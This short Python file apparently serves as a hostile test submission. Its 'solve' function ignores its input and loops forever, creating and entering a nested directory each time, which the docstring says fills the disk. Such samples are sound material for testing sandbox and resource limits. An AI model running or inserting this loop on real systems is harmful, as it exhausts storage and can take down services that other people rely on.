"""Fills the disk with directories, one in the other."""

import os


def solve(n):
    while True:
        os.mkdir("d")
        os.chdir("d")
